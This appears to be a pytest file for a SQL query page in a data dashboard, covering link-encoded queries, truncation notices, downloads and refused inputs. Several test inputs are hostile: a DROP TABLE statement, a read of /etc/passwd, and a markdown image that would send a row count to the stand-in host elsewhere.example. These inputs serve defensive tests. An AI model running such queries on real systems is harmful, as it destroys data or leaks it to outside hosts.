"""The SQL page: the query is in the link, its limits are told, and what is not allowed is one line."""

from __future__ import annotations

import json

import pytest

from pages.parts import asked as asking
from tests.pages.test_pages import Environments, figures, visit, words
from tests.store.test_files import ANY_TYPE


def test_the_first_query_is_the_sweep_by_depth(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    app = visit(monkeypatch, environments["full"], "sql", sweep="full")
    rows = app.dataframe[0].value
    assert list(rows["k"]) == list(range(8))
    assert "8 rows, " in words(app)
    (drawn,) = figures(app)
    assert drawn["layout"]["yaxis"]["title"]["text"] == "decode_tok_s"
    assert "Truncated" not in words(app)


def test_the_link_is_the_query(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = "SELECT k, cycle_ms, n_runs FROM k_summary WHERE sweep = 'full' AND k > 2 ORDER BY k"
    app = visit(monkeypatch, environments["full"], "sql", sql=asked, y="cycle_ms", **{"as": "bars"})
    assert app.text_area("sql-text").value == asked
    assert list(app.dataframe[0].value["k"]) == [3, 4, 5, 6, 7]
    (drawn,) = figures(app)
    assert drawn["data"][0]["type"] == "bar"
    (chart,) = app.get("plotly_chart")
    assert chart.proto.alt.startswith("cycle_ms against k, 5 rows, from ")


def test_running_a_query_puts_it_into_the_link(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    app = visit(monkeypatch, environments["full"], "sql", y="cycle_ms")
    app.text_area("sql-text").set_value("SELECT 42 AS answer")
    app.button[0].click().run()
    assert app.query_params["sql"] in ("SELECT 42 AS answer", ["SELECT 42 AS answer"])
    assert "y" not in app.query_params  # it was a column of the query before
    assert app.dataframe[0].value["answer"].tolist() == [42]
    app.selectbox("example").select("Every run in order").run()
    assert "order_index" in app.dataframe[0].value
    assert not app.exception


def test_truncation_is_told(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    app = visit(monkeypatch, environments["full"], "sql", sql="SELECT * FROM range(5000)")
    assert "Truncated: only the first 1000 rows are shown." in words(app)
    assert len(app.dataframe[0].value) == 1000


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        ("DROP TABLE run", "only one statement that reads"),
        ("SELECT * FROM read_text('/etc/passwd')", "read_text is not available here"),
        ("SELECT no_column FROM run", "Referenced column"),
        ("SELECT 1; SELECT 2", "only one statement that reads"),
    ],
)
def test_what_is_refused(asked: str, said: str, environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    app = visit(monkeypatch, environments["full"], "sql", sql=asked)
    assert not app.exception
    assert said in app.error[0].value
    assert not figures(app)


def test_every_kind_of_value_is_shown(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = """SELECT k, k AS k, [1, 2] AS l, {'a': 1} AS s, MAP {'x': 1} AS m, 'NaN'::DOUBLE AS f, NULL AS n,
    1::HUGEINT AS h, 1.5::DECIMAL(4, 2) AS d, to_timestamp(0) AS t, DATE '2026-01-01' AS day, INTERVAL 1 DAY AS i,
    'ab'::BLOB AS b, uuid() AS u, true AS yes FROM run"""
    app = visit(monkeypatch, environments["full"], "sql", sql=asked)
    assert not app.exception
    assert len(app.dataframe[0].value) > 8
    for x in ("l", "s", "t", "day", "i", "b", "yes"):
        app = visit(monkeypatch, environments["full"], "sql", sql=asked, x=x, y="h")
        assert not app.exception
        assert json.loads(app.get("plotly_chart")[0].proto.spec)["data"]


def test_no_rows(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    app = visit(monkeypatch, environments["full"], "sql", sql="SELECT * FROM run WHERE false")
    assert not app.exception
    assert "0 rows, " in words(app)


def test_an_error_cannot_carry_results_elsewhere(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    """A link whose query fails with an image's address in its message would fetch it, results and all."""
    asked = "SELECT error('![x](http://elsewhere.example/?q=' || (SELECT count(*) FROM run) || ')')"
    app = visit(monkeypatch, environments["full"], "sql", sql=asked)
    assert "elsewhere.example" in app.error[0].value
    assert "![" not in app.error[0].value
    assert "](" not in app.error[0].value


@pytest.mark.parametrize("column", ANY_TYPE)
def test_any_type_is_shown_and_drawn(column: str, environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = f"SELECT {column} AS x, range AS n FROM range(2)"
    app = visit(monkeypatch, environments["full"], "sql", sql=asked)
    assert not app.exception
    assert len(app.dataframe[-1].value) == 2
    assert figures(app)


def test_files_say_what_they_hold(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
    whole = visit(monkeypatch, environments["full"], "sql", sql="SELECT 1 AS a FROM range(7)")
    assert "The files hold all 7 rows." in words(whole)
    cut = visit(monkeypatch, environments["full"], "sql", sql="SELECT 1 AS a FROM range(5000)")
    assert not cut.get("download_button")
    next(button for button in cut.button if button.label.startswith("Prepare")).click().run()
    assert "The files hold all 5000 rows." in words(cut)
    assert len(cut.get("download_button")) == 2
    monkeypatch.setattr(asking, "FILE_ROWS", 2000)
    more = visit(monkeypatch, environments["full"], "sql", sql="SELECT 2 AS a FROM range(5000)")
    next(button for button in more.button if button.label.startswith("Prepare")).click().run()
    assert "The files hold the first 2000 rows: up to 2000 rows and 60 MB" in words(more)


def test_the_query_is_in_its_box_after_another_page(
    environments: Environments, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = visit(monkeypatch, environments["full"], "sql", sql="SELECT 42 AS answer")
    app.switch_page("pages/data.py").run()
    app.query_params["sql"] = "SELECT 42 AS answer"
    app.switch_page("pages/sql.py").run()
    assert app.text_area("sql-text").value == "SELECT 42 AS answer"


def test_what_was_refused_is_not_asked_again_by_itself(
    environments: Environments, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A query ended at its deadline would hold a place, and the reader, at every click."""
    times = []
    ask = asking.sql_guard.ask

    def counted(*args: object, **kwargs: object) -> object:
        times.append(args)
        return ask(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(asking.sql_guard, "ask", counted)
    app = visit(monkeypatch, environments["full"], "sql", sql="SELECT no_such_column FROM run")
    app.run().run()
    assert len(times) == 1
    assert "no_such_column" in app.error[0].value
    next(button for button in app.button if button.label == "Run").click().run()
    assert len(times) == 2
